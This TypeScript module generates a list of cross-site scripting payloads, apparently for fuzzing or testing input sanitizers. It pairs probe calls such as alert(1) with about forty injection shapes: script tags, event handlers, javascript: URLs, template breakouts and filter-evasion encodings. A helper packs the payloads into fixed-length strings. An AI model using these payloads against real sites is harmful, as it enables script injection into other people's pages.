/** Ways in which text becomes a programme where it is put into a page as markup, an attribute, an address or a template. */
const calls = ['alert(1)', 'window.hacked=1', 'confirm`1`', '(0,eval)("alert(1)")', 'import("data:text/javascript,alert(1)")']
const shapes = [
  (call: string) => `<script>${call}</script>`,
  (call: string) => `</script><script>${call}</script>`,
  (call: string) => `<img src=x onerror=${call}>`,
  (call: string) => `"><img src=x onerror="${call}">`,
  (call: string) => `'><svg/onload='${call}'>`,
  (call: string) => `<svg><script>${call}</script></svg>`,
  (call: string) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
  (call: string) => `<details open ontoggle=${call}>x`,
  (call: string) => `<input autofocus onfocus=${call}>`,
  (call: string) => `<video><source onerror=${call}></video>`,
  (call: string) => `<audio src onerror=${call}>`,
  (call: string) => `<body onload=${call}>`,
  (call: string) => `<iframe src="javascript:${call}"></iframe>`,
  (call: string) => `<iframe srcdoc="<script>${call}</script>">`,
  (call: string) => `<a href="javascript:${call}">x</a>`,
  (call: string) => `javascript:${call}`,
  (call: string) => `<object data="javascript:${call}">`,
  (call: string) => `<embed src="javascript:${call}">`,
  (call: string) => `<math><mtext><script>${call}</script>`,
  (call: string) => `<style>@import"javascript:${call}"</style>`,
  (call: string) => `<link rel=stylesheet href="javascript:${call}">`,
  (call: string) => `<meta http-equiv=refresh content="0;javascript:${call}">`,
  (call: string) => `<base href="javascript:${call}//">`,
  (call: string) => `<form action="javascript:${call}"><button>x`,
  (call: string) => `<marquee onstart=${call}>`,
  (call: string) => `<select autofocus onfocus=${call}>`,
  (call: string) => `<template><script>${call}</script></template>`,
  (call: string) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  (call: string) => `<!--><img src=x onerror=${call}>-->`,
  (call: string) => `<![CDATA[><script>${call}</script>]]>`,
  (call: string) => `{{constructor.constructor('${call}')()}}`,
  (call: string) => '${' + call + '}',
  (call: string) => `<%= ${call} %>`,
  (call: string) => `" onmouseover="${call}" x="`,
  (call: string) => `' onfocus=${call} autofocus '`,
  (call: string) => `&lt;script&gt;${call}&lt;/script&gt;`,
  (call: string) => `%3Cscript%3E${call}%3C/script%3E`,
  (call: string) => `<scr<script>ipt>${call}</scr</script>ipt>`,
  (call: string) => `<ScRiPt>${call}</sCrIpT>`,
  (call: string) => `</title></textarea><img src=x onerror=${call}>`,
]

export const payloads: string[] = calls.flatMap((call) => shapes.map((shape) => shape(call)))

/** As many of them, from one on, as fit into a text of some length; the next begins where this one ended. */
export const createFiller = () => {
  let next = 0
  return (longest: number, begin = ''): string => {
    let text = begin
    for (let tried = 0; tried < payloads.length; tried++) {
      const payload = payloads[next % payloads.length] ?? ''
      if (text.length + payload.length > longest) break
      text += payload
      next++
    }
    if (text !== begin) return text
    // A payload that is too long for this text is left for a longer one.
    const short = payloads.find((payload) => begin.length + payload.length <= longest) ?? ''
    next++
    return begin + short
  }
}
